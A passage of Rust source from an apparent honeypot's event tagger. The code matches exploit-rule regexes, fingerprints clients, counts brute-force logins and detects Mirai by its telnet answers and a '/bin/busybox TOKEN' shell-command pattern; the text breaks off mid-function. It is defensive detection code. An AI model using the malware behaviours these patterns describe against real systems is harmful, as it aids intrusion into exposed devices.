//! The tagger: tags and client names derived from a session's events, in the writer thread.
//!
//! [`Tagger::observe`] looks at each batch before the sinks and inserts derived events for the
//! same session (the triggering event's common fields and timestamp), right after the event
//! that triggered them; what is derived at `session.closed` goes just before it, so closed
//! stays the last event of its session:
//!
//! - `rule.match` {action "tag"} for exploit rules (`data/rules.toml` plus `[classify] rules`),
//!   tested in one pass per haystack ([`RegexSet`]) against raw client bytes (with a carry of
//!   the session's last [`CARRY`] bytes, so a pattern split across two reads still matches),
//!   shell command lines, and the HTTP request target (raw and percent-decoded once) and
//!   header values. Each rule fires at most once per session; a persona's own tag of the same
//!   name is not repeated (if the tagger was first, the persona's later duplicate is dropped).
//! - `client.name` {name, by} from the SSH version line, HASSH, JA3/JA4, HTTP user agent or
//!   raw input (`data/clients.toml` plus `[classify] clients`); one per (session, `by`), and a
//!   name already given is not repeated under another `by`. A research scanner's name also
//!   tags the session `scanner.research`.
//! - `brute_force`: a source that made `brute_force_attempts` logins (`login.failed` +
//!   `login.success`, any session, any port) within `brute_force_window`: the session in which
//!   it reached the threshold and every later session of it with a login while it is still
//!   over the threshold.
//! - `mirai.telnet_options` (Mirai's answers to telnet negotiation: WONT to every DO except
//!   NAWS, which gets WILL NAWS and an 80x24 NAWS subnegotiation, DO to every WILL),
//!   `mirai.busybox_token` (`/bin/busybox TOKEN`, TOKEN an all-uppercase word of 4+ letters;
//!   BusyBox applets are lowercase, so it is never a real one) and `mirai` (both).
//! - `scanner.connect_only` / `scanner.banner_grab`: at close, a client that sent no bytes
//!   (and could have: the session ended by the peer, the idle timeout, an I/O error or the
//!   persona; not by the allow-list, a limit or a shutdown), to a server that said nothing /
//!   that spoke.
//!
//! Rule and client regexes are bytes regexes with Unicode off (`.` and `[^x]` match any byte,
//! `(?i)` folds ASCII), which keeps the lazy DFA fast on binary input.
//!
//! State is per session (removed at close, at most [`MAX_SESSIONS`] open ones; more are not
//! tracked and counted) and per source for brute force (at most [`MAX_SOURCES`]; the oldest are
//! evicted).

use std::collections::{HashMap, VecDeque};
use std::hash::{BuildHasherDefault, Hasher};
use std::net::IpAddr;
use std::path::Path;
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use honeyport_event::{EndReason, Event, EventKind};
use regex::bytes::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
use serde::Deserialize;

use super::detect::Proto;
use crate::config::{Problems, MAX_CONFIG_FILE};

/// The built-in exploit rules.
pub const BUILTIN_RULES: &str = include_str!("../../data/rules.toml");
/// The built-in known clients.
pub const BUILTIN_CLIENTS: &str = include_str!("../../data/clients.toml");

/// Most sessions tracked at once.
pub const MAX_SESSIONS: usize = 262_144;
/// Most sources remembered for brute-force counting.
pub const MAX_SOURCES: usize = 65_536;
/// Bytes of a session's previous input kept to match patterns split across reads.
pub const CARRY: usize = 512;
/// Default `[classify] brute_force_attempts`.
pub const DEFAULT_BRUTE_FORCE_ATTEMPTS: u32 = 10;
/// Default `[classify] brute_force_window`.
pub const DEFAULT_BRUTE_FORCE_WINDOW: Duration = Duration::from_secs(3600);
/// Largest `brute_force_attempts` (memory: at most sources x attempts x 4 bytes).
pub const MAX_BRUTE_FORCE_ATTEMPTS: u64 = 1000;
/// Longest client name kept (names can hold captured client bytes).
const MAX_NAME: usize = 128;
/// Compiled size limit of one rule or client regex.
const REGEX_SIZE_LIMIT: usize = 4 << 20;

pub const TAG_RESEARCH: &str = "scanner.research";
pub const TAG_BRUTE_FORCE: &str = "brute_force";
pub const TAG_MIRAI_OPTIONS: &str = "mirai.telnet_options";
pub const TAG_MIRAI_TOKEN: &str = "mirai.busybox_token";
pub const TAG_MIRAI: &str = "mirai";
pub const TAG_CONNECT_ONLY: &str = "scanner.connect_only";
pub const TAG_BANNER_GRAB: &str = "scanner.banner_grab";

/// The behaviour tags, in the order of their indexes after the rules'.
const BEHAVIOUR: [&str; 7] = [
    TAG_RESEARCH,
    TAG_BRUTE_FORCE,
    TAG_MIRAI_OPTIONS,
    TAG_MIRAI_TOKEN,
    TAG_MIRAI,
    TAG_CONNECT_ONLY,
    TAG_BANNER_GRAB,
];
const B_RESEARCH: usize = 0;
const B_BRUTE_FORCE: usize = 1;
const B_MIRAI_OPTIONS: usize = 2;
const B_MIRAI_TOKEN: usize = 3;
const B_MIRAI: usize = 4;
const B_CONNECT_ONLY: usize = 5;
const B_BANNER_GRAB: usize = 6;

// ---- data files -------------------------------------------------------------------------

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    #[serde(default)]
    rules: Vec<RuleRaw>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleRaw {
    id: String,
    name: String,
    protocols: Vec<String>,
    regex: Option<String>,
    bytes: Option<String>,
    decoded: Option<bool>,
    examples: Vec<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ClientsFile {
    #[serde(default)]
    clients: Vec<ClientRaw>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ClientRaw {
    name: String,
    #[serde(default)]
    research: bool,
    ssh_version: Option<String>,
    user_agent: Option<String>,
    input: Option<String>,
    hassh: Option<String>,
    ja3: Option<String>,
    ja4: Option<String>,
    #[serde(default)]
    examples: Vec<String>,
}

/// One exploit rule, validated and compiled.
#[derive(Clone, Debug)]
pub struct Rule {
    pub id: String,
    pub name: String,
    any: bool,
    shell: bool,
    protos: Vec<Proto>,
    regex: Regex,
    decoded: bool,
    /// Where it came from (for duplicate-id errors).
    source: String,
}

/// Where a haystack came from, for a rule's `protocols`.
#[derive(Clone, Copy, Debug)]
enum Src {
    /// Raw client bytes; the session's protocol from its first bytes.
    Input(Option<Proto>),
    /// A shell command line.
    Command,
    /// HTTP request target (raw) and header values.
    Http,
    /// The percent-decoded HTTP request target.
    HttpDecoded,
}

impl Rule {
    fn applies(&self, src: Src) -> bool {
        match src {
            Src::Command => self.any || self.shell,
            Src::Http => self.any || self.protos.contains(&Proto::Http),
            Src::HttpDecoded => self.decoded && (self.any || self.protos.contains(&Proto::Http)),
            Src::Input(p) => self.any || p.is_some_and(|p| self.protos.contains(&p)),
        }
    }

    /// Length of the first capture group if the regex has one, else of the whole match.
    fn match_len(&self, hay: &[u8]) -> u64 {
        if self.regex.captures_len() > 1 {
            if let Some(c) = self.regex.captures(hay) {
                if let Some(m) = c.get(1).or_else(|| c.get(0)) {
                    return m.len() as u64;
                }
            }
        }
        self.regex.find(hay).map_or(0, |m| m.len() as u64)
    }
}

/// One known client, validated and compiled.
#[derive(Clone, Debug)]
pub struct ClientEntry {
    pub name: String,
    pub research: bool,
    ssh_version: Option<Regex>,
    user_agent: Option<Regex>,
    input: Option<Regex>,
    hassh: Option<String>,
    ja3: Option<String>,
    ja4: Option<String>,
}

fn compile(pattern: &str) -> Result<Regex, String> {
    RegexBuilder::new(pattern)
        .unicode(false)
        .size_limit(REGEX_SIZE_LIMIT)
        .build()
        .map_err(|e| {
            e.to_string()
                .lines()
                .last()
                .unwrap_or("bad regex")
                .to_string()
        })
}

fn protocols(list: &[String]) -> Result<(bool, bool, Vec<Proto>), String> {
    if list.is_empty() {
        return Err("empty (use [\"any\"])".into());
    }
    let (mut any, mut shell, mut protos) = (false, false, Vec::new());
    for p in list {
        match p.as_str() {
            "any" => any = true,
            "shell" => shell = true,
            "http" => protos.extend([Proto::Http, Proto::Http2, Proto::HttpConnect]),
            other => match Proto::from_name(other) {
                Some(p) => protos.push(p),
                None => {
                    return Err(format!(
                        "unknown protocol {other:?} (any, shell, or one of {})",
                        Proto::ALL.map(Proto::name).join(", ")
                    ))
                }
            },
        }
    }
    Ok((any, shell, protos))
}

/// A tag name: what goes into the comma-separated `tags` column.
fn check_tag(id: &str) -> Result<(), String> {
    if id.is_empty() || id.len() > 64 {
        return Err("must be 1-64 characters".into());
    }
    if !id
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-_.:/".contains(&b))
    {
        return Err(format!(
            "{id:?}: only letters, digits and - _ . : / are allowed"
        ));
    }
    if BEHAVIOUR.contains(&id) {
        return Err(format!("{id:?} is a behaviour tag of the tagger"));
    }
    Ok(())
}

/// Reads a rules file (`source` names it in errors). Every problem is pushed to `errors` as
/// `rules[i].field: message`.
pub fn parse_rules(source: &str, text: &str, errors: &mut Vec<String>) -> Vec<Rule> {
    let file: RulesFile = match toml::from_str(text) {
        Ok(f) => f,
        Err(e) => {
            errors.push(e.to_string().trim().replace('\n', " "));
            return Vec::new();
        }
    };
    let mut out = Vec::new();
    for (i, r) in file.rules.into_iter().enumerate() {
        let at = format!("rules[{i}]");
        let n = errors.len();
        if let Err(e) = check_tag(&r.id) {
            errors.push(format!("{at}.id: {e}"));
        }
        if r.name.trim().is_empty() {
            errors.push(format!("{at}.name: must not be empty"));
        }
        let scope =
            protocols(&r.protocols).map_err(|e| errors.push(format!("{at}.protocols: {e}")));
        let pattern = match (&r.regex, &r.bytes) {
            (Some(re), None) => Some(re.clone()),
            (None, Some(b)) if !b.is_empty() => Some(regex::escape(b)),
            _ => {
                errors.push(format!(
                    "{at}: needs exactly one of regex or bytes (not empty)"
                ));
                None
            }
        };
        let regex = pattern.and_then(|p| {
            compile(&p)
                .map_err(|e| errors.push(format!("{at}.regex: {e}")))
                .ok()
        });
        if r.examples.is_empty() {
            errors.push(format!(
                "{at}.examples: give at least one attack string it matches"
            ));
        }
        if let Some(re) = &regex {
            for (j, ex) in r.examples.iter().enumerate() {
                if !re.is_match(ex.as_bytes()) {
                    errors.push(format!("{at}.examples[{j}]: the regex does not match it"));
                }
            }
        }
        if errors.len() > n {
            continue;
        }
        let (Ok((any, shell, protos)), Some(regex)) = (scope, regex) else {
            continue;
        };
        out.push(Rule {
            id: r.id,
            name: r.name,
            any,
            shell,
            protos,
            regex,
            decoded: r.decoded.unwrap_or(true),
            source: source.to_string(),
        });
    }
    out
}

fn hex32(v: &str) -> bool {
    v.len() == 32 && v.bytes().all(|b| b.is_ascii_hexdigit())
}

/// Reads a clients file. Every problem is pushed to `errors` as `clients[i].field: message`.
pub fn parse_clients(text: &str, errors: &mut Vec<String>) -> Vec<ClientEntry> {
    let file: ClientsFile = match toml::from_str(text) {
        Ok(f) => f,
        Err(e) => {
            errors.push(e.to_string().trim().replace('\n', " "));
            return Vec::new();
        }
    };
    let mut out = Vec::new();
    for (i, c) in file.clients.into_iter().enumerate() {
        let at = format!("clients[{i}]");
        let n = errors.len();
        if c.name.trim().is_empty() || c.name.len() > MAX_NAME {
            errors.push(format!("{at}.name: must be 1-{MAX_NAME} bytes"));
        }
        let mut re = |field: &str, v: &Option<String>| -> Option<Regex> {
            let v = v.as_ref()?;
            compile(v)
                .map_err(|e| errors.push(format!("{at}.{field}: {e}")))
                .ok()
        };
        let ssh_version = re("ssh_version", &c.ssh_version);
        let user_agent = re("user_agent", &c.user_agent);
        let input = re("input", &c.input);
        for (field, v) in [("hassh", &c.hassh), ("ja3", &c.ja3)] {
            if let Some(v) = v {
                if !hex32(v) {
                    errors.push(format!("{at}.{field}: must be 32 hex digits"));
                }
            }
        }
        if let Some(v) = &c.ja4 {
            if v.is_empty()
                || v.len() > 64
                || !v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            {
                errors.push(format!(
                    "{at}.ja4: not a JA4 fingerprint (e.g. t13d1516h2_8daaf6152771_e5627efa2ab1)"
                ));
            }
        }
        let regexes = [&ssh_version, &user_agent, &input];
        if c.ssh_version.is_none()
            && c.user_agent.is_none()
            && c.input.is_none()
            && c.hassh.is_none()
            && c.ja3.is_none()
            && c.ja4.is_none()
        {
            errors.push(format!(
                "{at}: needs one of ssh_version, user_agent, input, hassh, ja3, ja4"
            ));
        }
        for (j, ex) in c.examples.iter().enumerate() {
            let exact = [&c.hassh, &c.ja3, &c.ja4]
                .iter()
                .any(|v| v.as_deref() == Some(ex.as_str()));
            if !exact
                && !regexes
                    .iter()
                    .any(|r| r.as_ref().is_some_and(|r| r.is_match(ex.as_bytes())))
            {
                errors.push(format!(
                    "{at}.examples[{j}]: no matcher of this entry matches it"
                ));
            }
        }
        if errors.len() > n {
            continue;
        }
        out.push(ClientEntry {
            name: c.name,
            research: c.research,
            ssh_version,
            user_agent,
            input,
            hassh: c.hassh.map(|h| h.to_ascii_lowercase()),
            ja3: c.ja3.map(|h| h.to_ascii_lowercase()),
            ja4: c.ja4,
        });
    }
    out
}

type Builtin = Result<(Vec<Rule>, Vec<ClientEntry>), String>;

/// The built-in rules and clients, parsed once.
fn builtin() -> &'static Builtin {
    static B: OnceLock<Builtin> = OnceLock::new();
    B.get_or_init(|| {
        let mut errors = Vec::new();
        let rules = parse_rules("built-in rules.toml", BUILTIN_RULES, &mut errors);
        let mut cerr = Vec::new();
        let clients = parse_clients(BUILTIN_CLIENTS, &mut cerr);
        errors.extend(
            cerr.into_iter()
                .map(|e| format!("built-in clients.toml: {e}")),
        );
        if errors.is_empty() {
            Ok((rules, clients))
        } else {
            Err(errors.join("; "))
        }
    })
}

/// Regexes of one kind, tested together; the first (lowest index) match wins.
struct Matchers {
    set: RegexSet,
    /// (client index, its regex) per set member.
    list: Vec<(usize, Regex)>,
}

impl Matchers {
    fn new(list: Vec<(usize, Regex)>) -> Result<Matchers, String> {
        let set = RegexSetBuilder::new(list.iter().map(|(_, r)| r.as_str()))
            .unicode(false)
            .size_limit(REGEX_SIZE_LIMIT * list.len().max(1))
            .build()
            .map_err(|e| e.to_string())?;
        Ok(Matchers { set, list })
    }

    fn first(&self, hay: &[u8]) -> Option<&(usize, Regex)> {
        if !self.set.is_match(hay) {
            return None;
        }
        self.set.matches(hay).iter().next().map(|i| &self.list[i])
    }
}

/// Everything the tagger matches with, compiled: shared by the config and the writer.
pub struct TagData {
    rules: Vec<Rule>,
    clients: Vec<ClientEntry>,
    /// Every rule's regex, then every client `input` regex: one pass per haystack.
    scan: RegexSet,
    /// Client index per set member past the rules.
    scan_clients: Vec<(usize, Regex)>,
    ssh: Matchers,
    ua: Matchers,
    hassh: HashMap<String, usize>,
    ja3: HashMap<String, usize>,
    ja4: HashMap<String, usize>,
    /// Tag name -> tag index (rules, then [`BEHAVIOUR`]).
    ids: HashMap<String, u16>,
    busybox: Regex,
}

impl TagData {
    /// Compiles rules and clients (clients in priority order). Fails on a duplicate rule id.
    pub fn new(rules: Vec<Rule>, clients: Vec<ClientEntry>) -> Result<TagData, String> {
        let mut ids = HashMap::new();
        for (i, r) in rules.iter().enumerate() {
            if let Some(&prev) = ids.get(&r.id) {
                let p: &Rule = &rules[prev as usize];
                return Err(format!(
                    "rule id {:?} ({}) is already defined ({})",
                    r.id, r.source, p.source
                ));
            }
            ids.insert(r.id.clone(), i as u16);
        }
        if rules.len() + BEHAVIOUR.len() > u16::MAX as usize {
            return Err("too many rules".into());
        }
        for (k, b) in BEHAVIOUR.iter().enumerate() {
            ids.insert(b.to_string(), (rules.len() + k) as u16);
        }
        let scan_clients: Vec<(usize, Regex)> = clients
            .iter()
            .enumerate()
            .filter_map(|(i, c)| c.input.clone().map(|r| (i, r)))
            .collect();
        let patterns = rules
            .iter()
            .map(|r| r.regex.as_str())
            .chain(scan_clients.iter().map(|(_, r)| r.as_str()));
        let n = rules.len() + scan_clients.len();
        let scan = RegexSetBuilder::new(patterns)
            .unicode(false)
            .size_limit(REGEX_SIZE_LIMIT * n.max(1))
            .build()
            .map_err(|e| e.to_string())?;
        let pick = |f: fn(&ClientEntry) -> &Option<Regex>| -> Vec<(usize, Regex)> {
            clients
                .iter()
                .enumerate()
                .filter_map(|(i, c)| f(c).clone().map(|r| (i, r)))
                .collect()
        };
        let ssh = Matchers::new(pick(|c| &c.ssh_version))?;
        let ua = Matchers::new(pick(|c| &c.user_agent))?;
        let exact = |f: fn(&ClientEntry) -> &Option<String>| -> HashMap<String, usize> {
            let mut m = HashMap::new();
            for (i, c) in clients.iter().enumerate() {
                if let Some(v) = f(c) {
                    m.entry(v.clone()).or_insert(i);
                }
            }
            m
        };
        let (hassh, ja3, ja4) = (exact(|c| &c.hassh), exact(|c| &c.ja3), exact(|c| &c.ja4));
        let busybox = compile(r"(?:^|[\s;&|])(?:/bin/)?busybox\s+([A-Z]{4,})(?:$|[\s;&|])")?;
        Ok(TagData {
            rules,
            clients,
            scan,
            scan_clients,
            ssh,
            ua,
            hassh,
            ja3,
            ja4,
            ids,
            busybox,
        })
    }

    /// The built-in rules and clients only.
    pub fn builtin() -> Result<TagData, String> {
        let (r, c) = builtin().as_ref().map_err(Clone::clone)?;
        TagData::new(r.clone(), c.clone())
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    pub fn clients(&self) -> &[ClientEntry] {
        &self.clients
    }

    fn behaviour(&self, b: usize) -> u16 {
        (self.rules.len() + b) as u16
    }

    fn tag_name(&self, idx: u16) -> &str {
        let i = idx as usize;
        match self.rules.get(i) {
            Some(r) => &r.id,
            None => BEHAVIOUR[i - self.rules.len()],
        }
    }
}

/// The tagger as configured: its data and brute-force thresholds.
#[derive(Clone)]
pub struct TaggerSpec {
    pub data: Arc<TagData>,
    pub brute_force_attempts: u32,
    pub brute_force_window: Duration,
}

impl TaggerSpec {
    /// Built-in data, default thresholds.
    pub fn builtin() -> Result<TaggerSpec, String> {
        Ok(TaggerSpec {
            data: Arc::new(TagData::builtin()?),
            brute_force_attempts: DEFAULT_BRUTE_FORCE_ATTEMPTS,
            brute_force_window: DEFAULT_BRUTE_FORCE_WINDOW,
        })
    }
}

impl std::fmt::Debug for TaggerSpec {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("TaggerSpec")
            .field("rules", &self.data.rules.len())
            .field("clients", &self.data.clients.len())
            .field("brute_force_attempts", &self.brute_force_attempts)
            .field("brute_force_window", &self.brute_force_window)
            .finish()
    }
}

/// Validates `[classify]`'s tagger keys (reading and checking the extra rules and clients
/// files); `None` when `tags = false` (or on errors, which are in `p`).
pub fn validate_config(
    raw: &crate::config::ClassifyRaw,
    base_dir: &Path,
    p: &mut Problems<'_>,
) -> Option<TaggerSpec> {
    let attempts = match raw.brute_force_attempts {
        None => DEFAULT_BRUTE_FORCE_ATTEMPTS,
        Some(n) if (1..=MAX_BRUTE_FORCE_ATTEMPTS).contains(&n) => n as u32,
        Some(_) => {
            p.at(
                "classify.brute_force_attempts",
                format!("must be between 1 and {MAX_BRUTE_FORCE_ATTEMPTS}"),
            );
            DEFAULT_BRUTE_FORCE_ATTEMPTS
        }
    };
    let window = match &raw.brute_force_window {
        None => DEFAULT_BRUTE_FORCE_WINDOW,
        Some(v) => match v.duration() {
            Ok(d) if d >= Duration::from_secs(1) => d,
            Ok(_) => {
                p.at("classify.brute_force_window", "must be at least 1s");
                DEFAULT_BRUTE_FORCE_WINDOW
            }
            Err(e) => {
                p.at("classify.brute_force_window", e);
                DEFAULT_BRUTE_FORCE_WINDOW
            }
        },
    };
    let (b_rules, b_clients) = match builtin() {
        Ok(b) => b,
        Err(e) => {
            p.at("classify", e.clone());
            return None;
        }
    };
    let read =
        |key: &str, file: &Option<String>, p: &mut Problems<'_>| -> Option<(String, String)> {
            let file = file.as_ref()?;
            let path = crate::config::resolve_path(base_dir, file);
            let shown = path.display().to_string();
            match crate::config::read_file_capped(&path, MAX_CONFIG_FILE) {
                Ok(b) => match String::from_utf8(b) {
                    Ok(t) => Some((shown, t)),
                    Err(_) => {
                        p.at(&format!("classify.{key}"), format!("{shown}: not UTF-8"));
                        None
                    }
                },
                Err(e) => {
                    p.at(&format!("classify.{key}"), e);
                    None
                }
            }
        };
    let before = p.errors.len();
    let mut rules = b_rules.clone();
    if let Some((shown, text)) = read("rules", &raw.rules, p) {
        let mut errors = Vec::new();
        rules.extend(parse_rules(&shown, &text, &mut errors));
        for e in errors {
            p.at("classify.rules", format!("{shown}: {e}"));
        }
    }
    let mut clients = Vec::new();
    if let Some((shown, text)) = read("clients", &raw.clients, p) {
        let mut errors = Vec::new();
        clients = parse_clients(&text, &mut errors);
        for e in errors {
            p.at("classify.clients", format!("{shown}: {e}"));
        }
    }
    clients.extend(b_clients.iter().cloned());
    if p.errors.len() > before {
        return None;
    }
    let data = match TagData::new(rules, clients) {
        Ok(d) => d,
        Err(e) => {
            p.at("classify.rules", e);
            return None;
        }
    };
    if !raw.tags.unwrap_or(true) {
        return None;
    }
    Some(TaggerSpec {
        data: Arc::new(data),
        brute_force_attempts: attempts,
        brute_force_window: window,
    })
}

// ---- the tagger -------------------------------------------------------------------------

/// A hasher for session ids (already well spread numbers): one multiply.
#[derive(Default)]
struct IdHasher(u64);

impl Hasher for IdHasher {
    fn finish(&self) -> u64 {
        self.0
    }
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0.rotate_left(8) ^ b as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15);
        }
    }
    fn write_u64(&mut self, n: u64) {
        self.0 = (self.0 ^ n).wrapping_mul(0x9E37_79B9_7F4A_7C15);
    }
}

/// What made a client name.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum By {
    SshVersion,
    Hassh,
    Ja3,
    Ja4,
    UserAgent,
    Input,
}

impl By {
    fn as_str(self) -> &'static str {
        match self {
            By::SshVersion => "ssh.version",
            By::Hassh => "hassh",
            By::Ja3 => "ja3",
            By::Ja4 => "ja4",
            By::UserAgent => "http.user_agent",
            By::Input => "input",
        }
    }
    fn bit(self) -> u8 {
        1 << (self as u8)
    }
}

/// One open session's state.
#[derive(Default)]
struct Sess {
    /// The protocol of its first bytes.
    proto: Option<Proto>,
    /// The end of what it sent so far.
    carry: Vec<u8>,
    /// Tags the session has (ours and its persona's).
    fired: Vec<u16>,
    /// Tags the tagger gave it.
    ours: Vec<u16>,
    /// `By` bits of the client names given.
    by: u8,
    /// Client names given.
    names: Vec<String>,
}

/// Per source: times (seconds) of its last logins, oldest first.
#[derive(Default)]
struct Source {
    times: VecDeque<u32>,
}

/// Counters, for the shutdown log and tests.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct TaggerStats {
    /// Events inserted (tags and client names).
    pub derived: u64,
    /// Persona tags dropped as duplicates of the tagger's.
    pub duplicates: u64,
    /// Sessions not tracked because [`MAX_SESSIONS`] were open.
    pub untracked: u64,
    /// Sources forgotten to stay within [`MAX_SOURCES`].
    pub evicted_sources: u64,
}

/// Collects derived events for one triggering event.
struct Emit<'a> {
    data: &'a TagData,
    ev: &'a Event,
    pos: usize,
    inserts: &'a mut Vec<(usize, Event)>,
}

impl Emit<'_> {
    fn push(&mut self, kind: EventKind) {
        let ev = self.ev;
        self.inserts.push((
            self.pos,
            Event {
                v: ev.v,
                timestamp: ev.timestamp,
                sensor: ev.sensor.clone(),
                session: ev.session.clone(),
                transport: ev.transport,
                src_ip: ev.src_ip,
                src_port: ev.src_port,
                dst_ip: ev.dst_ip,
                dst_port: ev.dst_port,
                kind,
            },
        ));
    }

    /// Tags the session once (`st` None: an untracked session, tagged without memory).
    fn tag(&mut self, st: Option<&mut Sess>, idx: u16, match_len: u64) {
        if let Some(st) = st {
            if st.fired.contains(&idx) {
                return;
            }
            st.fired.push(idx);
            st.ours.push(idx);
        }
        let rule = self.data.tag_name(idx).to_string();
        self.push(EventKind::RuleMatch {
            rule,
            action: "tag".into(),
            match_len,
        });
    }

    fn behaviour(&mut self, st: Option<&mut Sess>, b: usize) {
        let idx = self.data.behaviour(b);
        self.tag(st, idx, 0);
    }

    fn name(&mut self, st: &mut Sess, by: By, client: usize, re: Option<&Regex>, hay: &[u8]) {
        if st.by & by.bit() != 0 {
            return;
        }
        st.by |= by.bit();
        let c = &self.data.clients[client];
        let name = expand(&c.name, re, hay);
        if !st.names.contains(&name) {
            st.names.push(name.clone());
            self.push(EventKind::ClientName {
                name,
                by: by.as_str().into(),
            });
        }
        if c.research {
            self.behaviour(Some(st), B_RESEARCH);
        }
    }
}

/// A client name with `$1`-style groups filled from the match.
fn expand(name: &str, re: Option<&Regex>, hay: &[u8]) -> String {
    let Some(re) = re.filter(|_| name.contains('$')) else {
        return name.to_string();
    };
    let Some(caps) = re.captures(hay) else {
        return name.to_string();
    };
    let mut out = Vec::new();
    caps.expand(name.as_bytes(), &mut out);
    let mut s = String::from_utf8_lossy(&out).into_owned();
    if s.len() > MAX_NAME {
        let mut cut = MAX_NAME;
        while !s.is_char_boundary(cut) {
            cut -= 1;
        }
        s.truncate(cut);
    }
    s
}

/// Percent-decodes `%XX` once (nothing else).
fn percent_decode(s: &[u8], out: &mut Vec<u8>) {
    let hex = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    out.clear();
    let mut i = 0;
    while i < s.len() {
        if s[i] == b'%' && i + 2 < s.len() {
            if let (Some(h), Some(l)) = (hex(s[i + 1]), hex(s[i + 2])) {
                out.push((h << 4) | l);
                i += 3;
                continue;
            }
        }
        out.push(s[i]);
        i += 1;
    }
}

/// Mirai's answers to telnet negotiation: every DO refused (WONT) except NAWS, which is
/// accepted with an 80x24 window; every WILL accepted (DO). Nothing else.
pub fn is_mirai_pattern(pattern: &str) -> bool {
    let (mut will_naws, mut sb) = (false, false);
    for t in pattern.split(',') {
        match t {
            "WILL NAWS" => will_naws = true,
            "SB NAWS 80x24" if will_naws => sb = true,
            "WONT NAWS" => return false,
            _ if t.starts_with("WONT ") || t.starts_with("DO ") => {}
            _ => return false,
        }
    }
    will_naws && sb
}

/// Matches `hay` against every rule (and client `input` pattern) in one pass.
fn scan(data: &TagData, st: &mut Sess, hay: &[u8], src: Src, out: &mut Emit<'_>) {
    if hay.is_empty() || !data.scan.is_match(hay) {
        return;
    }
    let nrules = data.rules.len();
    for j in data.scan.matches(hay).iter() {
        if j < nrules {
            let r = &data.rules[j];
            let idx = j as u16;
            if !st.fired.contains(&idx) && r.applies(src) {
                let len = r.match_len(hay);
                out.tag(Some(st), idx, len);
            }
        } else if let Src::Input(_) = src {
            let (client, re) = &data.scan_clients[j - nrules];
            out.name(st, By::Input, *client, Some(re), hay);
        }
    }
}

/// Derives tags and client names from each batch of events (see the module docs).
pub struct Tagger {
    data: Arc<TagData>,
    attempts: usize,
    window: u32,
    max_sessions: usize,
    max_sources: usize,
    sessions: HashMap<u64, Sess, BuildHasherDefault<IdHasher>>,
    sources: HashMap<IpAddr, Source>,
    scratch: Vec<u8>,
    inserts: Vec<(usize, Event)>,
    drops: Vec<usize>,
    out: Vec<Event>,
    stats: TaggerStats,
}

impl Tagger {
    pub fn new(spec: &TaggerSpec) -> Tagger {
        Tagger::with_limits(spec, MAX_SESSIONS, MAX_SOURCES)
    }

    /// With other bounds (tests).
    pub fn with_limits(spec: &TaggerSpec, max_sessions: usize, max_sources: usize) -> Tagger {
        Tagger {
            data: spec.data.clone(),
            attempts: spec.brute_force_attempts.max(1) as usize,
            window: spec.brute_force_window.as_secs().clamp(1, u32::MAX as u64) as u32,
            max_sessions: max_sessions.max(1),
            max_sources: max_sources.max(1),
            sessions: HashMap::default(),
            sources: HashMap::new(),
            scratch: Vec::new(),
            inserts: Vec::new(),
            drops: Vec::new(),
            out: Vec::new(),
            stats: TaggerStats::default(),
        }
    }

    pub fn stats(&self) -> TaggerStats {
        self.stats
    }

    /// Sessions tracked now.
    pub fn open_sessions(&self) -> usize {
        self.sessions.len()
    }

    /// Sources remembered now.
    pub fn sources(&self) -> usize {
        self.sources.len()
    }

    /// Inserts the derived events of a batch (see the module docs). Returns how many.
    pub fn observe(&mut self, batch: &mut Vec<Event>) -> usize {
        self.inserts.clear();
        self.drops.clear();
        for (i, ev) in batch.iter().enumerate() {
            self.one(ev, i);
        }
        let added = self.inserts.len();
        if added == 0 && self.drops.is_empty() {
            return 0;
        }
        self.stats.derived += added as u64;
        self.stats.duplicates += self.drops.len() as u64;
        let mut out = std::mem::take(&mut self.out);
        out.clear();
        out.reserve(batch.len() + added);
        let mut ins = self.inserts.drain(..).peekable();
        let mut drops = self.drops.iter().copied().peekable();
        for (i, ev) in batch.drain(..).enumerate() {
            while let Some((_, e)) = ins.next_if(|(p, _)| *p <= i) {
                out.push(e);
            }
            if drops.next_if_eq(&i).is_none() {
                out.push(ev);
            }
        }
        out.extend(ins.map(|(_, e)| e));
        std::mem::swap(batch, &mut out);
        self.out = out;
        added
    }

    fn one(&mut self, ev: &Event, i: usize) {
        use EventKind as K;
        match &ev.kind {
            K::Connect { .. }
            | K::Input { .. }
            | K::CommandInput { .. }
            | K::HttpRequest { .. }
            | K::ClientVersion { .. }
            | K::ClientKex { .. }
            | K::TlsClientHello { .. }
            | K::TelnetOptions { .. }
            | K::LoginFailed { .. }
            | K::LoginSuccess { .. }
            | K::RuleMatch { .. }
            | K::Closed { .. } => {}
            _ => return,
        }
        let Some(key) = ev.session.as_u64() else {
            return;
        };
        let data: &TagData = &self.data;
        let mut out = Emit {
            data,
            ev,
            pos: i + 1,
            inserts: &mut self.inserts,
        };
        match &ev.kind {
            K::Connect { .. } => {
                if self.sessions.len() >= self.max_sessions {
                    self.stats.untracked += 1;
                    let n = self.stats.untracked;
                    if n == 1 || n.is_power_of_two() {
                        tracing::warn!(
                            untracked = n,
                            open = self.sessions.len(),
                            "tagger: too many open sessions, new ones are not tagged"
                        );
                    }
                } else {
                    self.sessions.insert(key, Sess::default());
                }
                return;
            }
            K::Closed {
                bytes_in,
                bytes_out,
                reason,
                ..
            } => {
                let mut st = self.sessions.remove(&key);
                // Only when the client could have spoken: not refused by the allow-list or a
                // limit, nor cut short by a shutdown.
                let heard_out = matches!(
                    reason,
                    EndReason::PeerClosed
                        | EndReason::IdleTimeout
                        | EndReason::IoError
                        | EndReason::Persona
                );
                if *bytes_in == 0 && heard_out {
                    out.pos = i;
                    let b = if *bytes_out == 0 {
                        B_CONNECT_ONLY
                    } else {
                        B_BANNER_GRAB
                    };
